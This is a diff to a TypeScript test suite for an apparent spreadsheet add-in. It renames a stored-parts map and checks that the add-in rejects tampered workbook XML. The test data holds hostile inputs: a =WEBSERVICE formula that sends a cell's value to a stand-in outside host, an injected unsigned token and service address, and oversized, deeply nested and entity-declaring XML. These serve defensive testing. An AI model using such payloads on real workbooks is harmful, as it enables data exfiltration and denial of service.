@@ -15,8 +15,8 @@ type File = Awaited<ReturnType<typeof openFile>>;
 /** Replaces the parts of the file, and runs every action on the listed data ranges. */
 async function tryAll(file: File, parts: readonly string[]): Promise<void> {
   const { workbook, actions } = file;
-  workbook.kept.clear();
-  parts.forEach((xml, index) => workbook.kept.set(`{tampered ${index}}`, xml));
+  workbook.storedParts.clear();
+  parts.forEach((xml, index) => workbook.storedParts.set(`{tampered ${index}}`, xml));
   const refuse = (error: unknown) => {
     if (!(error instanceof Error) || error instanceof RollbackError) throw error;
   };
@@ -56,7 +56,9 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
   'bring a token or a service address of its own': async () => {
     const file = await openFile();
     await tryAll(file, [put(file.validXml, `<service>${elsewhere}</service><token>eyJhbGciOiJub25lIn0.e30.x</token>`)]);
-    expect(JSON.stringify([file.workbook.entered, [...file.workbook.kept.values()]])).not.toMatch(/elsewhere|eyJ/);
+    expect(JSON.stringify([file.workbook.entered, [...file.workbook.storedParts.values()]])).not.toMatch(
+      /elsewhere|eyJ/,
+    );
   },
   'enter a formula other than one call of an IDS function': entersNothing(`=WEBSERVICE("${elsewhere}/?"&A1)`),
   'enter a formula that refers to another file': entersNothing(`=IDS.POSITIONS('${elsewhere}/x.xlsx'!N,"last")`),
@@ -72,7 +74,7 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
   ]),
   'refresh one table through two definitions': async () => {
     const { workbook, actions, validXml } = await openFile();
-    workbook.kept.set('{second}', called(validXml, 'second'));
+    workbook.storedParts.set('{second}', called(validXml, 'second'));
     const listed = await actions.listDataRanges();
     expect(listed.filter(({ address }) => address !== '')).toHaveLength(1);
     expect(listed).toContainEqual(
@@ -99,9 +101,9 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
     source.fetchedAt = Date.parse('2026-01-02T12:00:00');
     await actions.refreshDataRanges('all');
     expect(await actions.listDataRanges()).toMatchObject([{ state: 'fresh' }]);
-    const [[part = '', now = ''] = []] = [...workbook.kept];
+    const [[part = '', now = ''] = []] = [...workbook.storedParts];
     const written = /<written .*?<\/written>/s;
-    workbook.kept.set(
+    workbook.storedParts.set(
       part,
       now.replace(written, (written.exec(validXml)?.[0] ?? '').replace(/>[0-9a-z]{6}/, '>zzzzzz')),
     );
@@ -109,16 +111,19 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
   },
   'stop other tables or the audit from working with a broken definition': async () => {
     const { workbook, actions, validXml } = await openFile();
-    workbook.kept.set('{broken}', validXml.slice(0, 200));
-    workbook.kept.set('{other}', called(aimedAt(validXml, mine, 'Mine'), 'other').replaceAll('header="', 'header="x'));
+    workbook.storedParts.set('{broken}', validXml.slice(0, 200));
+    workbook.storedParts.set(
+      '{other}',
+      called(aimedAt(validXml, mine, 'Mine'), 'other').replaceAll('header="', 'header="x'),
+    );
     expect(await actions.refreshDataRanges('all')).toContainEqual(expect.objectContaining({ outcome: 'unchanged' }));
     await expect(actions.writeAudit()).resolves.toMatch(/^IDS audit/);
   },
   'stop the add-in with its size or nesting': async () => {
     const { workbook, actions, validXml } = await openFile();
-    workbook.kept.set('{deep}', put(validXml, `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`));
-    workbook.kept.set('{wide}', put(validXml, `<!--${'x'.repeat(1_000_000)}-->`));
-    workbook.kept.set('{entities}', `<!DOCTYPE block [<!ENTITY a "x">]>${validXml}`);
+    workbook.storedParts.set('{deep}', put(validXml, `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`));
+    workbook.storedParts.set('{wide}', put(validXml, `<!--${'x'.repeat(1_000_000)}-->`));
+    workbook.storedParts.set('{entities}', `<!DOCTYPE block [<!ENTITY a "x">]>${validXml}`);
     expect(await processorMillis(async () => expect(await actions.listDataRanges()).toHaveLength(4))).toBeLessThan(
       2_000,
     );
